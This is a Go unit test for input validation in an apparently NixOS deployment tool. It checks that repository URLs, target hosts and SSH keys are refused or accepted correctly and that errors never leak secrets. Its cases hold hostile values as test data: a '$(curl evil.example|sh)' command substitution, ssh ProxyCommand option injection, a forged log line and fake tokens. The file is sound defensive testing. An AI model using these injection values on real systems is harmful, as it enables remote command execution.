package config

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/rsa"
	"strings"
	"testing"

	"golang.org/x/crypto/ssh"
)

// A PuTTY private key as PuTTYgen writes it (PuTTY manual, appendix C:
// "PuTTY-User-Key-File-3", "Public-Lines", "Private-Lines", "Private-MAC").
// The private lines are made up; what matters is that none of them is ever
// shown.
const puttyKey = `PuTTY-User-Key-File-3: ssh-ed25519
Encryption: none
Comment: me@laptop
Public-Lines: 2
AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9
GKJl
Private-Lines: 1
AAAAIFSECRETSECRETSECRETSECRETSECRETSECRETSECRET0123456789
Private-MAC: 5b1f3e0a7c9d2e4f6a8b0c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f60718293a4b
`

func publicLine(t *testing.T, k any, comment string) string {
	t.Helper()
	pk, err := ssh.NewPublicKey(k)
	if err != nil {
		t.Fatal(err)
	}
	return strings.TrimSpace(string(ssh.MarshalAuthorizedKey(pk))) + " " + comment
}

// TestSecurityRules covers issue 16's input rules: each case must be refused
// (with a phrase of the rule) or accepted, and an error never shows what
// forbid lists.
func TestSecurityRules(t *testing.T) {
	t.Parallel()
	key := privateKeyPEM(t)
	ecKey, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	smallRSA, err := rsa.GenerateKey(rand.Reader, 1024)
	if err != nil {
		t.Fatal(err)
	}
	ecLine := publicLine(t, &ecKey.PublicKey, "ec@laptop")
	install := map[string]string{"command": "install", "target-host-key": testPub, "target-ssh-key": key}
	withHost := func(hostKey string) map[string]string {
		return map[string]string{"command": "install", "target-host": "203.0.113.7", "target-ssh-key": key, "target-host-key": hostKey}
	}
	tests := []struct {
		name, input, value string
		also               map[string]string
		wantErr            string   // "" means valid
		forbid             []string // never in the error
	}{
		// Item 2: no credentials in config-repo, no leading '-'.
		{"repo token as user", "config-repo", "https://ghp_abcdefSECRET0123456789@github.com/me/nix-config", nil, "must not carry a user name, token or password", []string{"ghp_abcdefSECRET0123456789"}},
		{"repo user and password", "config-repo", "https://x-access-token:ghs_SECRETtoken@github.com/me/c.git", nil, "must not carry a user name", []string{"ghs_SECRETtoken", "x-access-token"}},
		{"repo user only over git://", "config-repo", "git://someone@example.org/c.git", nil, "must not carry a user name", nil},
		{"repo token in query", "config-repo", "https://github.com/me/c.git?access_token=SECRETq", nil, "must not have a query", []string{"SECRETq"}},
		{"repo leading dash", "config-repo", "-uhttps://github.com/me/c", nil, "must not start with '-'", nil},
		{"repo ssh user with dash", "config-repo", "ssh://-oProxyCommand=touch%20x@github.com/me/c", nil, "user must not start with '-'", nil},
		{"repo scp host with dash", "config-repo", "git@-oProxyCommand.example:me/c", nil, "host must not start with '-'", nil},
		{"repo https host with dash", "config-repo", "https://-x.example/me/c", nil, "must be a git URL", nil},
		{"repo control character", "config-repo", "git@github.com:me/c\x1b[2J.git", nil, "control characters", nil},
		{"repo ssh user ok", "config-repo", "ssh://git@github.com/me/c.git", nil, "", nil},
		{"repo https ok", "config-repo", "https://github.com/me/nix-config.git", nil, "", nil},

		// Item 4: target-host is an address or a DNS name, with an optional port.
		{"target newline", "target-host", "203.0.113.7\n::error::forged", install, "must be an IP address or a DNS host name", nil},
		{"target command substitution", "target-host", "$(curl evil.example|sh)", install, "must be an IP address or a DNS host name", nil},
		{"target space", "target-host", "vm.example.org -oProxyCommand=x", install, "must be an IP address or a DNS host name", nil},
		{"target option", "target-host", "-oProxyCommand=x", install, "must be an IP address or a DNS host name", nil},
		{"target underscore", "target-host", "my_vm.example.org", install, "must be an IP address or a DNS host name", nil},
		{"target numeric last label", "target-host", "10.1", install, "must be an IP address or a DNS host name", nil},
		{"target zone", "target-host", "fe80::1%eth0", install, "must be an IP address or a DNS host name", nil},
		{"target long label", "target-host", strings.Repeat("a", 64) + ".example", install, "must be an IP address or a DNS host name", nil},
		{"target user", "target-host", "root@203.0.113.7", install, "user names go in target-user", nil},
		{"target port zero-padded", "target-host", "203.0.113.7:022", install, "port must be a number", nil},
		{"target brackets around a name", "target-host", "[vm.example.org]", install, "must be an IP address or a DNS host name", nil},
		{"target ipv6 with port", "target-host", "[2001:db8::1]:2222", install, "", nil},
		{"target ipv6", "target-host", "2001:db8::1", install, "", nil},
		{"target ipv6 in brackets", "target-host", "[2001:db8::1]", install, "", nil},
		{"target single label", "target-host", "nixbox", install, "", nil},
		{"target name with port", "target-host", "vm-1.example.org:2222", install, "", nil},

		// Item 6: a private key in the wrong input never echoes; a bad line
		// shows no more than its key type.
		{"putty key in public keys", "ssh-public-keys", puttyKey, nil, "contains a private key", strings.Split(puttyKey, "\n")[1:8]},
		{"putty key with CR line endings", "ssh-public-keys", strings.ReplaceAll(puttyKey, "\n", "\r"), nil, "contains a private key", []string{"SECRETSECRET", "me@laptop"}},
		{"putty private lines alone", "ssh-public-keys", "Private-Lines: 1\nAAAAIFSECRETSECRET\n", nil, "contains a private key", []string{"SECRETSECRET"}},
		{"openssh key body without its header", "ssh-public-keys", "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZWQyNTUxOQAAACBSECRETSECRET", nil, "ssh-public-keys line 1", []string{"b3BlbnNz", "SECRETSECRET", "QyNTUxOQ"}},
		{"bad key line shows its type only", "ssh-public-keys", "ssh-ed25519 AAAAbroken!! secret-comment", nil, `ssh-public-keys line 1 "ssh-ed25519"`, []string{"AAAAbroken", "secret-comment"}},
		{"private key as target host key", "target-host-key", key, withHost(""), "target-host-key (secret, value not shown): contains a private key", strings.Split(key, "\n")[1:3]},
		{"putty key as target host key", "target-host-key", puttyKey, withHost(""), "contains a private key", []string{"SECRETSECRET"}},
		{"bad target host key shows its type only", "target-host-key", "vm ssh-ed25519 AAAAxyzzy-not-base64", withHost(""), `target-host-key "ssh-ed25519"`, []string{"AAAAxyzzy"}},

		// Item 7: known_hosts markers are refused.
		{"revoked marker", "target-host-key", "@revoked * " + testPub, withHost(""), `marker "@revoked"`, nil},
		{"revoked marker without hosts", "target-host-key", "@revoked " + testPub, withHost(""), `marker "@revoked"`, nil},
		{"cert-authority marker", "target-host-key", "@cert-authority *.example.org " + testPub, withHost(""), `marker "@cert-authority"`, nil},
		{"marker after a comment", "target-host-key", "# from ssh-keyscan\n@revoked * " + testPub, withHost(""), "marker", nil},
		{"known_hosts line after a comment", "target-host-key", "# vm:22 SSH-2.0-OpenSSH_9.6\nvm " + testPub, withHost(""), "", nil},
		{"hashed known_hosts line", "target-host-key", "|1|JfKTdBh7rNbXkVAQCRp4OQoPfmI=|USECr3SWf1JUPsms5AqfD5QfxkM= " + testPub, withHost(""), "", nil},

		// Item 10: what the input check accepts, settings.json can carry.
		{"lone CR in a comment", "ssh-public-keys", strings.Replace(testPub, "me@laptop", "me\r@laptop", 1), nil, "carriage return inside the line", []string{"me\r@laptop"}},
		{"NUL in a comment", "ssh-public-keys", testPub + "\x00", nil, "control character U+0000", nil},
		{"escape in a comment", "ssh-public-keys", testPub + "\x1b[31m", nil, "control character U+001B", nil},
		{"invalid UTF-8 in a comment", "ssh-public-keys", testPub + "\xff", nil, "not UTF-8", nil},
		{"CRLF line endings are fine", "ssh-public-keys", testPub + "\r\n" + testPub + "\r\n", nil, "", nil},
		{"tab in a comment is fine", "ssh-public-keys", testPub + "\tat work", nil, "", nil},
		{"options would be dropped", "ssh-public-keys", `from="10.0.0.0/8",no-pty ` + testPub, nil, "authorized_keys options", nil},

		// Every key type a user may have is accepted: deploy sends Azure only
		// the keys it takes in osProfile and gives all of them to the
		// installed NixOS (issue 14; azure.SSHKeysAzureAccepts).
		{"ecdsa key for deploy", "ssh-public-keys", ecLine, nil, "", nil},
		{"small rsa key for deploy", "ssh-public-keys", publicLine(t, &smallRSA.PublicKey, "old"), nil, "", nil},
		{"ecdsa key for install onto a host", "ssh-public-keys", ecLine, map[string]string{"command": "install", "target-host": "203.0.113.7", "target-host-key": testPub, "target-ssh-key": key}, "", nil},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			in := defaults(t)
			for k, v := range tc.also {
				set(t, &in, k, v)
			}
			set(t, &in, tc.input, tc.value)
			_, err := Parse(in)
			if tc.wantErr == "" {
				if err != nil {
					t.Fatalf("want valid, got %v", err)
				}
				return
			}
			if err == nil || !strings.Contains(err.Error(), tc.wantErr) {
				t.Fatalf("want error containing %q, got %v", tc.wantErr, err)
			}
			for _, f := range tc.forbid {
				if f = strings.TrimSpace(f); len(f) > 3 && strings.Contains(err.Error(), f) {
					t.Errorf("error shows %q: %v", f, err)
				}
			}
			if fes := FieldErrors(err); len(fes) != 1 {
				t.Errorf("want exactly one field error, got %d: %v", len(fes), err)
			}
		})
	}
}

// TestTargetAddressIsClean: whatever target-host was accepted as is what the
// log, ssh's command line and the ssh-command output get; none of it may
// hold a character a shell or a log line would act on.
func TestTargetAddressIsClean(t *testing.T) {
	t.Parallel()
	for _, h := range []string{"203.0.113.7", "[2001:db8::1]:2222", "vm.example.org:22", "nixbox"} {
		host, port, err := parseHostPort("target-host", h)
		if err != nil {
			t.Fatalf("%q: %v", h, err)
		}
		if strings.ContainsAny(host, " \t\r\n$`;|&<>()'\"\\@/[]") || port < 1 {
			t.Errorf("%q gave host %q port %d", h, host, port)
		}
	}
}
